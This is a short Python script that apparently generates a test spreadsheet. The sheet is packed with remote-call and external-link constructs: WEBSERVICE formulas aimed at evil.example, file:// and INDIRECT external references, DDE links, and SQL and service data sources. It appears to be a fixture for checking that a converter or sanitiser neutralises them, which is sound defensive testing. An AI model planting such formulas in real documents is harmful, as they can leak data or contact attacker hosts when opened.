# SPDX-License-Identifier: GPL-2.0-or-later
from opendocument import package
from recipes import emit

BODY = ('<table:content-validations><table:content-validation table:name="v" table:condition="of:cell-content-is-in-list(WEBSERVICE(&quot;http://evil.example/&quot;))" table:base-cell-address="$Sheet1.$A$1"/></table:content-validations>'
        '<table:table table:name="Sheet1" table:protection-key="Q09STkVSLU1BUks="><table:scenario table:scenario-ranges="[\'file:///evil.example/a\'#$S.A1]" table:is-active="true" table:comment="c"/>'
        '<table:table-column/><table:table-row><table:table-cell office:value-type="string" table:content-validation-name="v"><text:p>kept text</text:p></table:table-cell>'
        '<table:table-cell table:formula="of:=WEBSERVICE (&quot;http://evil.example/&quot;)" office:value-type="float" office:value="1"/><table:table-cell table:formula="msoxl:=WEBSERVICE(&quot;http://evil.example/&quot;)" office:value-type="float" office:value="1"/>'
        '<table:table-cell table:formula="oooc:=DDE(&quot;CORNER-MARK1&quot;;&quot;a&quot;;&quot;b&quot;)" office:value-type="float" office:value="1"/><table:table-cell table:formula="of:=INDIRECT(&quot;\'http://evil.example/a.ods\'#$S.A1&quot;)" office:value-type="float" office:value="1"/>'
        '<table:table-cell table:formula="of:=[\'file://evil.example/a.ods\'#$Sheet1.A1]" office:value-type="float" office:value="1"/><table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example/&quot;)" office:value-type="float" office:value="1"/>'
        '<table:table-cell table:formula="of:={WEBSERVICE(&quot;http://evil.example/&quot;)}" table:number-matrix-columns-spanned="1" table:number-matrix-rows-spanned="1" office:value-type="float" office:value="1"/>'
        '<table:table-cell table:formula="WEBSERVICE(&quot;http://evil.example/&quot;)" office:value-type="float" office:value="1"/><table:table-cell office:value-type="string" office:string-value="x"><text:p><text:a xlink:href="\'http://evil.example\'#A1">link</text:a></text:p></table:table-cell></table:table-row></table:table>'
        '<table:named-expressions><table:named-range table:name="far" table:cell-range-address="\'file:///evil.example/a.ods\'#$Sheet1.$A$1"/><table:named-expression table:name="run" table:expression="of:=WEBSERVICE(&quot;http://evil.example/&quot;)"/></table:named-expressions>'
        '<table:database-ranges><table:database-range table:name="d" table:target-range-address="Sheet1.A1:Sheet1.A2"><table:database-source-sql table:database-name="CORNER-MARK2" table:sql-statement="CORNER-MARK3"/></table:database-range></table:database-ranges>'
        '<table:data-pilot-tables><table:data-pilot-table table:name="p" table:target-range-address="Sheet1.C1:Sheet1.D2"><table:source-service table:name="CORNER-MARK4" table:source-name="CORNER-MARK5" table:object-name="CORNER-MARK6" table:user-name="a" table:password="b"/></table:data-pilot-table></table:data-pilot-tables>'
        '<table:consolidation table:function="sum" table:source-cell-range-addresses="\'file:///evil.example/a\'#$S.A1" table:target-cell-address="Sheet1.A9"/>'
        '<table:dde-links><table:dde-link><office:dde-source office:dde-application="CORNER-MARK7" office:dde-topic="CORNER-MARK8" office:dde-item="CORNER-MARK9"/><table:table><table:table-column/></table:table></table:dde-link></table:dde-links>'
        '<table:calculation-settings><table:iteration table:status="enable"/></table:calculation-settings><table:label-ranges/>')
BEFORE = ('<office:automatic-styles><style:style style:name="ce1" style:family="table-cell"><style:map style:condition="is-true-formula(WEBSERVICE(&quot;http://evil.example/&quot;))" style:apply-style-name="Default" style:base-cell-address="Sheet1.A1"/></style:style></office:automatic-styles>')
emit(package('spreadsheet', BODY, before=BEFORE))
